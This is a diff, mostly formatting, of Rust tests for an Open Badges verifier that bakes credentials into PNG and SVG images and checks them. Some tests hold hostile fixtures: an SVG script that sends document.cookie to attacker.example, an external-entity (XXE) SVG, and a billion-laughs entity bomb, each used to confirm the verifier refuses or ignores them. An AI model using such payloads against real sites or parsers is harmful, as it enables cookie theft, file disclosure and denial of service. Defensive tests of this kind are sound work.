@@ -14,7 +14,8 @@ fn signed_json_and_jwt() -> (String, String) {
     // A name that would end a CDATA section early if it were baked naively.
     model.achievement.name = "Arrays]]>and<tags> & more".into();
     let credential = build_credential(&model);
-    let json = serde_json::to_string(&signer.sign_data_integrity(&credential, &key, NOW).unwrap()).unwrap();
+    let json = serde_json::to_string(&signer.sign_data_integrity(&credential, &key, NOW).unwrap())
+        .unwrap();
     let jwt = signer.sign_vc_jwt(&credential, &key).unwrap();
     (json, jwt)
 }
@@ -59,7 +60,10 @@ fn png_round_trip_gives_back_the_exact_credential_in_one_uncompressed_itxt_chunk
         let types = chunk_types(&baked);
         assert_eq!(types.iter().filter(|t| *t == "iTXt").count(), 1);
         assert_eq!(types.last().map(String::as_str), Some("IEND"));
-        let keyword_at = baked.windows(20).position(|w| w == b"openbadgecredential\0").unwrap();
+        let keyword_at = baked
+            .windows(20)
+            .position(|w| w == b"openbadgecredential\0")
+            .unwrap();
         assert_eq!(baked[keyword_at + 20], 0, "compression flag must be 0");
         let report = Verifier::new().unwrap().verify(&baked, &options(NOW));
         assert_eq!(report.verdict, Verdict::Valid, "{:#?}", report.checks);
@@ -72,7 +76,10 @@ fn baking_again_replaces_the_old_credential() {
     let (json, jwt) = signed_json_and_jwt();
     let once = bake_png(&tiny_png(), &json).unwrap();
     let twice = bake_png(&once, &jwt).unwrap();
-    assert_eq!(chunk_types(&twice).iter().filter(|t| *t == "iTXt").count(), 1);
+    assert_eq!(
+        chunk_types(&twice).iter().filter(|t| *t == "iTXt").count(),
+        1
+    );
     assert_eq!(unbake_png(&twice).unwrap(), jwt);
 
     let svg_once = bake_svg(SVG, &json).unwrap();
@@ -92,7 +99,9 @@ fn a_png_with_two_credential_chunks_is_refused_as_ambiguous() {
     let report = Verifier::new().unwrap().verify(&doubled, &options(NOW));
     assert_eq!(report.verdict, Verdict::Invalid);
     assert_eq!(check(&report, "format").outcome, Outcome::Failed);
-    assert!(check(&report, "format").detail.contains("2 openbadgecredential chunks"));
+    assert!(check(&report, "format")
+        .detail
+        .contains("2 openbadgecredential chunks"));
 }
 
 #[test]
@@ -105,7 +114,10 @@ fn malformed_credential_chunks_are_refused_with_the_reason() {
             data.extend_from_slice(json.as_bytes());
             with_chunk_before_iend(&tiny_png(), &itxt_chunk(&data))
         }),
-        ("malformed", with_chunk_before_iend(&tiny_png(), &itxt_chunk(b"openbadgecredential\0\0"))),
+        (
+            "malformed",
+            with_chunk_before_iend(&tiny_png(), &itxt_chunk(b"openbadgecredential\0\0")),
+        ),
         ("CRC", {
             let mut png = bake_png(&tiny_png(), &json).unwrap();
             let at = png.windows(4).position(|w| w == b"\"id\"").unwrap();
@@ -116,7 +128,11 @@ fn malformed_credential_chunks_are_refused_with_the_reason() {
     for (reason, png) in cases {
         let report = verifier.verify(&png, &options(NOW));
         assert_eq!(report.verdict, Verdict::Invalid, "{reason}");
-        assert!(check(&report, "format").detail.contains(reason), "{reason}: {:?}", report.checks);
+        assert!(
+            check(&report, "format").detail.contains(reason),
+            "{reason}: {:?}",
+            report.checks
+        );
     }
 }
 
@@ -150,10 +166,15 @@ fn an_svg_with_an_external_entity_is_refused_and_nothing_is_fetched() {
 <svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0">
 <openbadges:credential>&secret;&remote;<![CDATA[{json}]]></openbadges:credential></svg>"#
     );
-    let report = Verifier::new().unwrap().verify(hostile.as_bytes(), &options(NOW));
+    let report = Verifier::new()
+        .unwrap()
+        .verify(hostile.as_bytes(), &options(NOW));
     assert_eq!(report.verdict, Verdict::Invalid);
     assert_eq!(check(&report, "format").outcome, Outcome::Failed);
-    assert!(!format!("{report:?}").contains("root:"), "file contents must never appear");
+    assert!(
+        !format!("{report:?}").contains("root:"),
+        "file contents must never appear"
+    );
 }
 
 #[test]
@@ -164,10 +185,17 @@ fn scripts_in_an_svg_are_never_run_only_the_credential_is_read() {
         r#"<script>fetch("https://attacker.example/?" + document.cookie)</script><image href="https://attacker.example/pixel.png"/><circle"#,
     );
     let baked = bake_svg(&with_script, &json).unwrap();
-    assert!(baked.contains("<script>"), "baking leaves the artwork alone");
-    let report = Verifier::new().unwrap().verify(baked.as_bytes(), &options(NOW));
+    assert!(
+        baked.contains("<script>"),
+        "baking leaves the artwork alone"
+    );
+    let report = Verifier::new()
+        .unwrap()
+        .verify(baked.as_bytes(), &options(NOW));
     assert_eq!(report.verdict, Verdict::Valid, "{:#?}", report.checks);
-    assert!(!serde_json::to_string(&report.credential).unwrap().contains("attacker"));
+    assert!(!serde_json::to_string(&report.credential)
+        .unwrap()
+        .contains("attacker"));
 }
 
 #[test]
@@ -180,7 +208,9 @@ fn a_billion_laughs_svg_is_refused() {
     let svg = format!(
         r#"<!DOCTYPE svg [{dtd}]><svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"><openbadges:credential>&a9;</openbadges:credential></svg>"#
     );
-    let report = Verifier::new().unwrap().verify(svg.as_bytes(), &options(NOW));
+    let report = Verifier::new()
+        .unwrap()
+        .verify(svg.as_bytes(), &options(NOW));
     assert_eq!(report.verdict, Verdict::Invalid);
     assert_eq!(check(&report, "format").outcome, Outcome::Failed);
 }
